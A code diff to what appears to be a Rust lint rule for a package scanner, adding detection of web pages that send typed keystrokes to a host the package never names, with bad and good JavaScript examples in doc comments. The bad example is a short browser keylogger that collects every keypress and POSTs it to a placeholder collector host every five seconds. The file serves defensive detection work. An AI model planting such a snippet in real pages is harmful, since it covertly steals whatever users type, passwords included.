@@ -1,6 +1,7 @@
 //! # Keys that a person presses leave the machine
 //!
-//! What a system-wide listener to the keyboard hears reaches a host.
+//! What a listener to the keyboard hears reaches a host: one of the whole system, or one of a page for a host that
+//! the package never names.
 //!
 //! ## Why it matters
 //!
@@ -23,6 +24,15 @@
 //! });
 //! ```
 //!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.js"}
+//! == index.js
+//! let typed = "";
+//! document.addEventListener("keydown", (event) => { typed += event.key; });
+//! setInterval(() => fetch("https://collector.invalid/k", { method: "POST", body: typed }), 5000); //~ here
+//! ```
+//!
 //! ## Good
 //!
 //! ```package
@@ -31,6 +41,15 @@
 //! == index.js
 //! const { GlobalKeyboardListener } = require("node-global-key-listener");
 //! exports.onHotKey = (name, act) => new GlobalKeyboardListener().addListener((event) => event.name === name && act());
+//! ```
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.js"}
+//! == index.js
+//! const field = document.querySelector("#search");
+//! field.addEventListener("input", (event) => fetch("/search?q=" + event.target.value));
+//! document.addEventListener("keydown", (event) => event.key === "Escape" && field.blur());
 //! ```
 //!
 //! ## References
@@ -61,6 +80,12 @@ impl Rule for KeystrokesSent {
     fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
         for flow in facts.flows(|source| *source == Source::Keystrokes, Sink::leaves_machine) {
             if flow.trigger.runs_unasked() || flow.trigger != Trigger::Dormant && flow.sink.host().is_some() {
+                found.flow(flow);
+            }
+        }
+        for flow in facts.flows(|source| *source == Source::PageInput, Sink::leaves_machine) {
+            let is_unsaid = flow.sink.host().is_some_and(|host| !facts.says_host(host));
+            if is_unsaid && flow.trigger != Trigger::Dormant {
                 found.flow(flow);
             }
         }
